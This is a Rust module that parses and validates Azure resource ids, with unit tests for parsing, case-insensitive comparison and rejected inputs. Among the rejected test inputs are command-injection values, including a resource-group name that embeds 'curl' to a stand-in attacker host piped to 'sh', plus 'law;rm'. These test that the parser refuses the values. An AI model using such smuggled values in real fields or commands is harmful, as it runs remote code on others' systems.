//! Resource ids taken apart: `/subscriptions/{sub}/resourceGroups/{rg}/providers/{Namespace}/
//! {type}/{name}[/{type}/{name}…]`.
//!
//! Azure compares the fixed segments (`subscriptions`, `resourceGroups`, `providers`), the
//! namespace and the type names without regard to case, and resource names too for the types
//! gpuform reads (ARM, "Resource naming rules": "Resource and resource group names are case-
//! insensitive unless specifically noted"). The parser keeps the text as written and compares
//! case-insensitively. The other id readers in the crate (`destroy::parse_id`,
//! `deploy::whatif::split_id`) only need the type and the last name; this one gives every part
//! (landing zones, issue 13: the subnet's subscription, group, VNet and name).

use std::fmt;

/// A resource-group-level resource id.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ArmId {
    pub subscription: String,
    pub resource_group: String,
    /// `Microsoft.Network`.
    pub namespace: String,
    /// `(type, name)` per level: `[("virtualNetworks", "vnet-hub"), ("subnets", "snet-gpu")]`.
    pub levels: Vec<(String, String)>,
}

/// Why a string is not the id that was expected.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{0}")]
pub struct IdError(pub String);

impl ArmId {
    /// Parse a resource id in a resource group (no extension resources).
    pub fn parse(id: &str) -> Result<ArmId, IdError> {
        let shape =
            "/subscriptions/<id>/resourceGroups/<group>/providers/<Namespace>/<type>/<name>";
        let rest = id.strip_prefix('/').ok_or_else(|| {
            IdError(format!(
                "a resource id starts with `/subscriptions/`: {shape}"
            ))
        })?;
        let segs: Vec<&str> = rest.split('/').collect();
        if segs.iter().any(|s| s.is_empty()) {
            return Err(IdError(format!(
                "the id has an empty segment (`//` or a trailing `/`); expected {shape}"
            )));
        }
        if segs
            .iter()
            .any(|s| s.chars().any(|c| c.is_whitespace() || c.is_control()))
        {
            return Err(IdError("the id contains white space".into()));
        }
        let fixed = |i: usize, want: &str| {
            segs.get(i)
                .is_some_and(|s| s.eq_ignore_ascii_case(want))
                .then_some(())
                .ok_or_else(|| {
                    IdError(format!(
                        "segment {} should be `{want}`; expected {shape}",
                        i + 1
                    ))
                })
        };
        fixed(0, "subscriptions")?;
        fixed(2, "resourceGroups")?;
        fixed(4, "providers")?;
        let subscription = segs.get(1).copied().unwrap_or_default();
        if !is_guid(subscription) {
            return Err(IdError(format!(
                "`{}` is not a subscription id (a GUID: 8-4-4-4-12 hexadecimal digits)",
                crate::diag::clip(subscription)
            )));
        }
        let namespace = segs
            .get(5)
            .ok_or_else(|| IdError(format!("the id names no resource; expected {shape}")))?;
        let pairs = &segs[6.min(segs.len())..];
        if pairs.is_empty() || !pairs.len().is_multiple_of(2) {
            return Err(IdError(format!(
                "after the namespace come type/name pairs; expected {shape}"
            )));
        }
        if pairs
            .chunks(2)
            .any(|p| p[0].eq_ignore_ascii_case("providers"))
        {
            return Err(IdError(
                "an extension resource id (a second `providers`) is not a resource of its own"
                    .into(),
            ));
        }
        // every part by its rule (Learn, resource name rules: src/facts/naming.rs)
        let group = segs[3];
        if let Some(p) = crate::facts::naming::resource_group_problem(group) {
            return Err(IdError(format!(
                "resource group `{}` {p}",
                crate::diag::clip(group)
            )));
        }
        let ns_ok = namespace.split('.').count() >= 2
            && namespace.split('.').all(|p| {
                p.starts_with(|c: char| c.is_ascii_alphabetic())
                    && p.chars().all(|c| c.is_ascii_alphanumeric())
            });
        if !ns_ok {
            return Err(IdError(format!(
                "`{}` is not a resource provider namespace (such as Microsoft.Network)",
                crate::diag::clip(namespace)
            )));
        }
        let mut ty = namespace.to_string();
        for p in pairs.chunks(2) {
            if !(p[0].starts_with(|c: char| c.is_ascii_alphabetic())
                && p[0].chars().all(|c| c.is_ascii_alphanumeric()))
            {
                return Err(IdError(format!(
                    "`{}` is not a resource type name",
                    crate::diag::clip(p[0])
                )));
            }
            ty.push('/');
            ty.push_str(p[0]);
            if let Some(problem) = crate::facts::naming::name_problem(&ty, p[1]) {
                return Err(IdError(format!(
                    "the {} name `{}` {problem}",
                    p[0],
                    crate::diag::clip(p[1])
                )));
            }
        }
        Ok(ArmId {
            subscription: subscription.to_string(),
            resource_group: segs[3].to_string(),
            namespace: namespace.to_string(),
            levels: pairs
                .chunks(2)
                .map(|p| (p[0].to_string(), p[1].to_string()))
                .collect(),
        })
    }

    /// `Microsoft.Network/virtualNetworks/subnets`.
    pub fn resource_type(&self) -> String {
        let mut t = self.namespace.clone();
        for (ty, _) in &self.levels {
            t.push('/');
            t.push_str(ty);
        }
        t
    }

    /// The id is of `ty` (compared without case).
    pub fn is_type(&self, ty: &str) -> bool {
        self.resource_type().eq_ignore_ascii_case(ty)
    }

    /// Parse and require the type: `Err` says what the id is instead.
    pub fn parse_of(id: &str, ty: &str) -> Result<ArmId, IdError> {
        let parsed = ArmId::parse(id)?;
        if parsed.is_type(ty) {
            Ok(parsed)
        } else {
            Err(IdError(format!(
                "the id is of a {}, not of a {ty}",
                parsed.resource_type()
            )))
        }
    }

    /// The names, one per level (`["vnet-hub", "snet-gpu"]`).
    pub fn names(&self) -> Vec<&str> {
        self.levels.iter().map(|(_, n)| n.as_str()).collect()
    }

    /// The last name.
    pub fn name(&self) -> &str {
        self.levels
            .last()
            .map(|(_, n)| n.as_str())
            .unwrap_or_default()
    }

    /// Same resource (Azure compares ids without case).
    pub fn same_as(&self, other: &ArmId) -> bool {
        self.to_string().eq_ignore_ascii_case(&other.to_string())
    }
}

impl fmt::Display for ArmId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "/subscriptions/{}/resourceGroups/{}/providers/{}",
            self.subscription, self.resource_group, self.namespace
        )?;
        for (ty, name) in &self.levels {
            write!(f, "/{ty}/{name}")?;
        }
        Ok(())
    }
}

/// `8-4-4-4-12` hexadecimal digits.
pub fn is_guid(s: &str) -> bool {
    let groups: Vec<&str> = s.split('-').collect();
    groups.len() == 5
        && groups
            .iter()
            .zip([8, 4, 4, 4, 12])
            .all(|(g, n)| g.len() == n && g.chars().all(|c| c.is_ascii_hexdigit()))
}

#[cfg(test)]
mod tests {
    use super::*;

    const SUB: &str = "11111111-2222-3333-4444-555555555555";

    #[test]
    fn subnet_ids_parse_whatever_the_case_of_the_fixed_segments() {
        for id in [
            format!(
                "/subscriptions/{SUB}/resourceGroups/rg-net/providers/Microsoft.Network/virtualNetworks/vnet-spoke/subnets/snet-gpu"
            ),
            format!(
                "/SUBSCRIPTIONS/{SUB}/resourcegroups/rg-net/PROVIDERS/microsoft.network/VirtualNetworks/vnet-spoke/Subnets/snet-gpu"
            ),
        ] {
            let p = ArmId::parse_of(&id, "Microsoft.Network/virtualNetworks/subnets").unwrap();
            assert_eq!(p.subscription, SUB);
            assert_eq!(p.resource_group, "rg-net");
            assert_eq!(p.names(), ["vnet-spoke", "snet-gpu"]);
            assert_eq!(p.name(), "snet-gpu");
        }
    }

    #[test]
    fn what_is_not_a_resource_id_says_why() {
        let bad = [
            ("subscriptions/x", "starts with"),
            (
                "/subscriptions/not-a-guid/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/vnet/subnets/s",
                "not a subscription id",
            ),
            (
                &format!(
                    "/subscriptions/{SUB}/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/vnet/subnets"
                ),
                "type/name pairs",
            ),
            (
                &format!(
                    "/subscriptions/{SUB}/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/vnet/subnets/s/"
                ),
                "empty segment",
            ),
            (
                &format!(
                    "/subscriptions/{SUB}/groups/g/providers/Microsoft.Network/virtualNetworks/vnet"
                ),
                "resourceGroups",
            ),
        ];
        let parts = [
            (
                format!(
                    "/subscriptions/{SUB}/resourceGroups/rg$(curl${{IFS}}evil.example|sh)/providers/Microsoft.OperationalInsights/workspaces/law-platform"
                ),
                "resource group",
            ),
            (
                format!(
                    "/subscriptions/{SUB}/resourceGroups/rg./providers/Microsoft.OperationalInsights/workspaces/law-platform"
                ),
                "period",
            ),
            (
                format!(
                    "/subscriptions/{SUB}/resourceGroups/rg/providers/Microsoft$Evil/workspaces/law-platform"
                ),
                "namespace",
            ),
            (
                format!(
                    "/subscriptions/{SUB}/resourceGroups/rg/providers/Microsoft.OperationalInsights/work-spaces/law-platform"
                ),
                "resource type",
            ),
            (
                format!(
                    "/subscriptions/{SUB}/resourceGroups/rg/providers/Microsoft.OperationalInsights/workspaces/law;rm"
                ),
                "workspace",
            ),
            (
                format!(
                    "/subscriptions/{SUB}/resourceGroups/rg/providers/Microsoft.KeyVault/vaults/kv'x"
                ),
                "vaults name",
            ),
            (
                format!(
                    "/subscriptions/{SUB}/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/v/subnets/s"
                ),
                "2 to 64",
            ),
        ];
        for (id, why) in &parts {
            let e = ArmId::parse(id).unwrap_err();
            assert!(e.0.contains(why), "{id}: {e}");
        }
        for (id, why) in bad {
            let e = ArmId::parse(id).unwrap_err();
            assert!(e.0.contains(why), "{id}: {e}");
        }
        let vnet = format!(
            "/subscriptions/{SUB}/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/vnet"
        );
        let e = ArmId::parse_of(&vnet, "Microsoft.Network/virtualNetworks/subnets").unwrap_err();
        assert!(e.0.contains("Microsoft.Network/virtualNetworks,"), "{e}");
    }

    #[test]
    fn ids_compare_without_case() {
        let a = ArmId::parse(&format!("/subscriptions/{SUB}/resourceGroups/RG/providers/Microsoft.Network/virtualNetworks/VNET/subnets/S")).unwrap();
        let b = ArmId::parse(&format!("/subscriptions/{SUB}/resourcegroups/rg/providers/microsoft.network/virtualnetworks/vnet/subnets/s")).unwrap();
        assert!(a.same_as(&b));
    }
}
